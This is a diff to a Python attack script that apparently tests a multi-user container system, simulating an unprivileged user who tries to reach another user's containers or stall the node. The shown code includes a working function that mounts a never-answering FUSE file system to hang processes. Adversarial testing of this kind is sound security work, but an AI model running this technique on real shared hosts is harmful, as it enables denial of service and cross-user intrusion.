@@ -1,5 +1,6 @@
 #!/usr/bin/python3
-"""What a user tries who wants another's containers, or the node out of service. Runs as that user, without any right.
+"""
+What a user tries who wants another's containers, or the node out of service. Runs as that user, without any right.
 
 Usage: attack.py SECONDS VICTIM FOLDER... (numbers of seconds and of a user; folders that hold folders of users)
 Prints what it got hold of, and goes on until the time is over.
@@ -19,7 +20,7 @@ def hang(point: Path) -> int:
     """Mount a file system that never answers; it stays while the number that is returned is open."""
     ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
     environment = {**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}
-    subprocess.run(["fusermount3", "--", str(point)], env=environment, pass_fds=[theirs.fileno()], check=True)
+    subprocess.run(["/usr/bin/fusermount3", "--", str(point)], env=environment, pass_fds=[theirs.fileno()], check=True)
     _, ancillary, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
     return array.array("i", ancillary[0][2])[0]
 
@@ -40,6 +41,7 @@ def tricks(folder: Path, victim: str, number: int) -> list:
 
 
 def main() -> None:
+    """Try all tricks again and again."""
     end, victim, folders = time.monotonic() + float(sys.argv[1]), sys.argv[2], [Path(name) for name in sys.argv[3:]]
     (Path.home() / "prize").mkdir(exist_ok=True)
     held = [hang(folder / f"user-{os.getuid()}") for folder in folders]
